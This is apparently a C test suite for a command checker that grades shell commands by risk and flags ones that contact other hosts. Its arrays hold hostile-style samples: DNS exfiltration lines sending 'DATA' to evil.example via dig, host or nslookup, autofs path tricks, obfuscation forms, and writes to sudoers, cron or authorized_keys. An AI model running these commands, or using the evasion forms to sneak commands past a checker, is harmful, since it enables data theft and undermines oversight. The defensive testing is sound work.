/* SPDX-License-Identifier: MIT */
#include "config.h"

#include <string.h>
#include <time.h>

#include "vig-test.h"

/* Rows of a corpus: "LEVEL\tSOURCE\tCOMMAND". */
static GPtrArray *
load_rows (const char *name)
{
  g_autofree char *path = g_build_filename (g_getenv ("VIG_TEST_DATA"), "commands", name, NULL);
  GPtrArray *rows = g_ptr_array_new_with_free_func ((GDestroyNotify) g_strfreev);
  g_autofree char *text = NULL;
  g_auto (GStrv) lines = NULL;
  g_autoptr (GError) error = NULL;

  g_file_get_contents (path, &text, NULL, &error);
  g_assert_no_error (error);
  lines = g_strsplit (text, "\n", -1);
  for (guint i = 0; lines[i] != NULL; i++)
    if (lines[i][0] != '#' && lines[i][0] != '\0')
      {
        char **row = g_strsplit (lines[i], "\t", 3);
        char *command;

        g_assert_cmpuint (g_strv_length (row), ==, 3);
        command = g_strcompress (row[2]);
        g_free (row[2]);
        row[2] = command;
        g_ptr_array_add (rows, row);
      }

  return rows;
}

static VigLevel
level_of (const char *text)
{
  VigLevel level;

  g_assert_true (vig_level_from_string (text, &level));

  return level;
}

static guint
count_wrong (GPtrArray *rows, gboolean exactly)
{
  guint n_wrong = 0;

  for (guint i = 0; i < rows->len; i++)
    {
      char **row = g_ptr_array_index (rows, i);
      g_autoptr (VigCommand) command = vig_command_parse (row[2]);
      g_autofree char *words = vig_command_explain (command);
      VigLevel level = vig_command_get_level (command);

      if (level < level_of (row[0]) || (exactly && level != level_of (row[0])))
        {
          g_test_message ("%s, not %s: %s (%s)\n%s", vig_level_to_string (level), row[0], row[2], row[1], words);
          n_wrong++;
        }
    }

  return n_wrong;
}

/* PITFALLS 13: none of them is taken for less than it is. */
static void
test_disguised (void)
{
  g_autoptr (GPtrArray) rows = load_rows ("disguised.tsv");

  g_assert_cmpuint (rows->len, >=, 1700);
  g_assert_cmpuint (count_wrong (rows, FALSE), ==, 0);
}

static void
test_ordinary (void)
{
  g_autoptr (GPtrArray) rows = load_rows ("ordinary.tsv");

  g_assert_cmpuint (rows->len, >=, 500);
  g_assert_cmpuint (count_wrong (rows, TRUE), ==, 0);
}

/* What is put round a command never makes it less, and neither does what comes before or after it. */
static void
test_disguised_again (void)
{
  static const char * const forms[] = {
    "df -h; %s", "%s\ndf -h", "true && { %s\n}", "if true; then %s\nfi", "( %s\n)", "for i in a; do %s\ndone", "echo \"$(%s\n)\"",
  };
  g_autoptr (GPtrArray) rows = load_rows ("disguised.tsv");

  for (guint i = 0; i < rows->len; i++)
    for (guint j = 0; j < G_N_ELEMENTS (forms); j++)
      {
        char **row = g_ptr_array_index (rows, i);
        g_auto (GStrv) halves = g_strsplit (forms[j], "%s", 2);
        g_autofree char *line = g_strconcat (halves[0], row[2], halves[1], NULL);
        g_autoptr (VigCommand) command = vig_command_parse (line);

        /* Some of these do end, once something comes after them. */
        if (g_str_equal (row[1], "texts that do not end"))
          continue;
        /* To csh this is no substitution, but an error. */
        if (g_str_has_prefix (row[1], "tcsh(1)") && strstr (forms[j], "$(") != NULL)
          continue;
        if (vig_command_get_level (command) < level_of (row[0]))
          {
            g_test_message ("%s, not %s: %s", vig_level_to_string (vig_command_get_level (command)), row[0], line);
            g_test_fail ();
          }
      }
}

/* The same through another shell, whose text is quoted. */
static void
test_disguised_quoted (void)
{
  g_autoptr (GPtrArray) rows = load_rows ("disguised.tsv");

  for (guint i = 0; i < rows->len; i++)
    {
      char **row = g_ptr_array_index (rows, i);
      g_autofree char *quoted = g_shell_quote (row[2]);
      g_autofree char *line = g_strdup_printf ("env LC_ALL=C timeout 5 sh -ec %s", quoted);
      g_autoptr (VigCommand) command = vig_command_parse (line);

      /* What is quoted for sh is read by sh. */
      if (g_str_has_prefix (row[1], "tcsh(1)"))
        continue;
      if (vig_command_get_level (command) < level_of (row[0]))
        {
          g_test_message ("%s, not %s: %s", vig_level_to_string (vig_command_get_level (command)), row[0], line);
          g_test_fail ();
        }
    }
}

static void
test_explain (void)
{
  static const struct
  {
    const char *line;
    const char *words;
  } rows[] = {
    { "df -h", "read     df -h: tells how full file systems are" },
    { "df -h | foo x", "read     df -h: tells how full file systems are\nexec     foo x: it is not in the table of known commands" },
    { "echo x > /tmp/y", "write    echo x > /tmp/y: writes to /tmp/y" },
    { "ls\nsudo id", "read     ls: lists files\nelevate  sudo id: runs a command as another user" },
    { "sh -c 'uptime; $x'",
      "read     uptime: tells how long the host has been running\nelevate  $x: which command it is shows only when it runs\n"
      "elevate  sh -c 'uptime; $x': runs the commands that it is given" },
    { "ls 'x", "elevate  ls 'x: it can't be read as a command of the POSIX shell: a single quote is not closed" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (rows); i++)
    {
      g_autoptr (VigCommand) command = vig_command_parse (rows[i].line);
      g_autofree char *words = vig_command_explain (command);

      g_assert_cmpstr (words, ==, rows[i].words);
    }
}

/* Words that go to another host: by a name that is looked up, by where it asks, by what it asks for. */
static void
test_outward (void)
{
  static const char * const outward[] = {
    "ping -c1 DATA.evil.example", "dig @192.0.2.1 DATA.evil.example", "dig +short TXT DATA.evil.example", "host DATA.evil.example",
    "nslookup DATA.evil.example", "echo DATA.evil.example | nslookup", "getent hosts DATA.evil.example", "getent ahostsv4 DATA.evil.example",
    "resolvectl query DATA.evil.example", "traceroute DATA.evil.example", "tracepath DATA.evil.example", "mtr --report DATA.evil.example",
    "snmpwalk -v 2c -c DATA 192.0.2.1", "snmpget -v 2c -c DATA 192.0.2.1", "docker search DATA", "podman search evil.example/DATA", "snap info DATA",
    "showmount -e DATA.evil.example", "lsof -i@DATA.evil.example", "lsof -n -i tcp@DATA.evil.example", "ss -t dst DATA.evil.example",
    "upsc DATA@192.0.2.1", "upsc -l DATA.evil.example", "pg_isready -h DATA.evil.example", "mysqladmin -h DATA.evil.example status",
    "redis-cli -h DATA.evil.example ping", "ipmitool -H DATA.evil.example sensor list", "tailscale ping DATA.evil.example", "fuser 22,DATA.evil.example,80/tcp",
    "/usr/bin/dig DATA.evil.example", "env ping DATA.evil.example", "d\\ig DATA.evil.example", "'host' DATA.evil.example", "nice timeout 3 host DATA.evil.example",
    "sh -c 'host DATA.evil.example'", "cat a | xargs host", "cat a | xargs -I{} getent {} x", "find . -name x -exec host {} \\;", "df -h; (host \"$(cat a)\")",
    "echo $(host DATA.evil.example)", "getent $x DATA.evil.example", "true || host DATA.evil.example", "busybox ping DATA.evil.example",
  };
  static const char * const inward[] = {
    "df -h", "getent passwd root", "ss -tlnp", "ss -t 'sport = :22'", "lsof -i", "lsof -i:22", "resolvectl status", "docker ps", "docker logs --tail 5 x.y",
    "echo DATA.evil.example", "grep -r DATA.evil.example .", "redis-cli ping", "tailscale status", "upsc ups", "ip route", "which dig", "command -v host",
  };

  for (guint i = 0; i < G_N_ELEMENTS (outward) + G_N_ELEMENTS (inward); i++)
    {
      gboolean expected = i < G_N_ELEMENTS (outward);
      const char *line = expected ? outward[i] : inward[i - G_N_ELEMENTS (outward)];
      g_autoptr (VigCommand) command = vig_command_parse (line);

      g_test_message ("%s", line);
      /* Above read a person is asked anyway. */
      g_assert_true (vig_command_is_outward (command) == expected || (expected && vig_command_get_level (command) > VIG_LEVEL_READ));
      g_assert_true (expected || vig_command_get_level (command) == VIG_LEVEL_READ);
    }
}

/* Paths in which the file system asks another host: autofs's -hosts map, AFS's cells and the like. */
static void
test_outward_paths (void)
{
  static const char * const outward[] = {
    "ls /net/DATA.evil.example", "cat /net/DATA.evil.example/x", "stat //net///DATA", "test -e /misc/DATA", "[ -d /net/DATA ]",
    "ls -d /usr/../net/DATA", "wc -l < /net/DATA/x", "ls ../../../../net/DATA", "ls a/../../net/DATA", "ls ~/../../net/DATA",
    "cat /proc/self/root/net/DATA/x", "ls /proc/1/task/1/cwd/net/DATA", "cd /net; ls DATA", "cd /net && ls DATA", "cd / && ls net/DATA",
    "cd ..; cat net/DATA/x", "ls /n*/DATA", "ls /[n]et/DATA", "ls /{net,x}/DATA", "ls /ne{t,}/DATA", "ls /*/DATA", "x=DATA; ls /net/$x",
    "d=net; ls /$d/DATA", "d=/net; ls $d/DATA", "ls /n\"e\"t/DATA", "ls '/net'/DATA", "grep --file=/net/DATA x", "grep -f/net/DATA x",
    "find /net/DATA -name x", "echo /net/DATA | xargs ls", "for f in /net/DATA; do cat $f; done", "sh -c 'ls /net/DATA'", "echo $(ls /net/DATA)",
    "df -h /afs/DATA.evil.example", "du -sh /ipns/DATA", "xargs ls <<EOF\n/net/DATA\nEOF", "timeout 3 ls /net/DATA", "ls /cvmfs/DATA.evil.example",
    "case x in x) ls /net/DATA;; esac", "diff /etc/fstab /net/DATA/x", "readlink -f /net/DATA",
  };
  static const char * const inward[] = {
    "ls /network", "ls /srv/net/x", "cat net/x", "ls misc", "ls -l /sys/class/net/eth0", "cat /proc/net/dev", "ls /usr/share/misc",
    "cat /proc/self/status", "ls -d /var/lo*", "du -sh /var/*", "cat *.log", "cat /etc/netplan/a.yaml", "for f in *; do wc -l $f; done", "cd x; ls y",
    "cd x; cat $f", "ls a/../net", "echo a/net/b", "ls /mnt/afs", "grep -rn net/x .", "ls ~/net", "x=1; echo $x", "ls \"$(cat a)\"",
  };

  for (guint i = 0; i < G_N_ELEMENTS (outward) + G_N_ELEMENTS (inward); i++)
    {
      gboolean expected = i < G_N_ELEMENTS (outward);
      g_autoptr (VigCommand) command = vig_command_parse (expected ? outward[i] : inward[i - G_N_ELEMENTS (outward)]);

      g_test_message ("%s", expected ? outward[i] : inward[i - G_N_ELEMENTS (outward)]);
      g_assert_cmpint (vig_command_is_outward (command), ==, expected);
      g_assert_true (expected || vig_command_get_level (command) == VIG_LEVEL_READ);
    }
}

static void
test_paths (void)
{
  static const struct
  {
    const char *path;
    gboolean    elevates;
  } rows[] = {
    { "/etc/sudoers.d/x", TRUE }, { "/etc/cron.d/x", TRUE }, { "/etc/./passwd", TRUE }, { "/srv/../etc/ssh/sshd_config", TRUE }, { "//etc/cron.d/x", TRUE },
    { "/srv/eve/.ssh/authorized_keys", TRUE }, { "/srv/jail/etc/sudoers.d/x", TRUE }, { "/etc/ld.so.preload", TRUE }, { "/lib/systemd/system/x.service", TRUE },
    { "/etc/nginx/nginx.conf", FALSE }, { "/srv/etc/sudo/watch.conf", FALSE }, { "/srv/mount", FALSE }, { "/srv/eve/shadow.css", FALSE }, { "/", FALSE },
  };

  for (guint i = 0; i < G_N_ELEMENTS (rows); i++)
    {
      g_test_message ("%s", rows[i].path);
      g_assert_cmpint (vig_command_path_elevates (rows[i].path), ==, rows[i].elevates);
    }
}

static char *
repeat (const char *text, guint n)
{
  GString *all = g_string_new (NULL);

  for (guint i = 0; i < n; i++)
    g_string_append (all, text);

  return g_string_free (all, FALSE);
}

/* Of the processor: what else the machine does does not count. */
static gint64
get_own_time (void)
{
  struct timespec now;

  clock_gettime (CLOCK_THREAD_CPUTIME_ID, &now);

  return (gint64) now.tv_sec * G_USEC_PER_SEC + now.tv_nsec / 1000;
}

/* Limits: what is beyond them is not read, and soon. */
static void
test_limits (void)
{
  static const struct
  {
    const char *text;
    guint       n;
    VigLevel    level;
  } rows[] = {
    { "df;", 400, VIG_LEVEL_READ }, { "df;", 600, VIG_LEVEL_ELEVATE }, { "(", 5000, VIG_LEVEL_ELEVATE }, { "$(", 5000, VIG_LEVEL_ELEVATE },
    { "echo \"$(", 5000, VIG_LEVEL_ELEVATE }, { "`", 30001, VIG_LEVEL_ELEVATE }, { "cat <<E\n", 5000, VIG_LEVEL_ELEVATE },
    { "a ", 40000, VIG_LEVEL_ELEVATE }, { "eval ", 5000, VIG_LEVEL_ELEVATE }, { "env ", 10, VIG_LEVEL_READ }, { "env ", 16000, VIG_LEVEL_ELEVATE },
    { "if ", 5000, VIG_LEVEL_ELEVATE },
    { "docker run -v ////////////////////////////////x/..:/h x;", 1, VIG_LEVEL_ELEVATE },
    { "docker run -v ////////////////////////////////x/..:/h -v ", 600, VIG_LEVEL_ELEVATE },
    { "f /etc/", 5000, VIG_LEVEL_EXEC }, { "\\", 32001, VIG_LEVEL_ELEVATE },
  };
  gint64 start = get_own_time ();

  for (guint i = 0; i < G_N_ELEMENTS (rows); i++)
    {
      g_autofree char *line = repeat (rows[i].text, rows[i].n);
      g_autoptr (VigCommand) command = vig_command_parse (line);

      g_test_message ("%s × %u", rows[i].text, rows[i].n);
      g_assert_cmpint (vig_command_get_level (command), >=, rows[i].level);
    }
  g_assert_cmpint (get_own_time () - start, <, 10 * G_USEC_PER_SEC);
}

int
main (int argc, char **argv)
{
  g_test_init (&argc, &argv, NULL);
  g_test_add_func ("/command/disguised", test_disguised);
  g_test_add_func ("/command/disguised-again", test_disguised_again);
  g_test_add_func ("/command/disguised-quoted", test_disguised_quoted);
  g_test_add_func ("/command/ordinary", test_ordinary);
  g_test_add_func ("/command/explain", test_explain);
  g_test_add_func ("/command/outward", test_outward);
  g_test_add_func ("/command/outward-paths", test_outward_paths);
  g_test_add_func ("/command/paths", test_paths);
  g_test_add_func ("/command/limits", test_limits);

  return g_test_run ();
}
